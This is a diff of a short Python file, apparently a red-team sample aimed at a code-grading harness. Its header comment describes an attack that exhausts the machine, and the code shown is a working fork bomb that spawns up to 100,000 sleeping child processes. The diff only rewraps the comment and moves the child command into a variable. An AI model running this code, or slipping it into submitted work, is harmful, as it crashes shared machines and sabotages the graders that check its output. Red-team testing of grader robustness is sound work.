@@ -1,5 +1,5 @@
-# Attack: exhaust the machine: a fork bomb, a huge allocation, a flood of output; then a function that returns a
-# tensor too large for the grader to hold.
+# Attack: exhaust the machine: a fork bomb, a huge allocation, a flood of output; then a function
+# that returns a tensor too large for the grader to hold.
 import os
 import sys
 import time
@@ -9,7 +9,8 @@ try:
     for _ in range(100000):
         pid = os.fork()
         if pid == 0:
-            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)  # REDTEAM"])
+            sleeper = "import time; time.sleep(600)  # REDTEAM"
+            os.execv(sys.executable, [sys.executable, "-c", sleeper])
         children += 1
 except OSError:
     pass
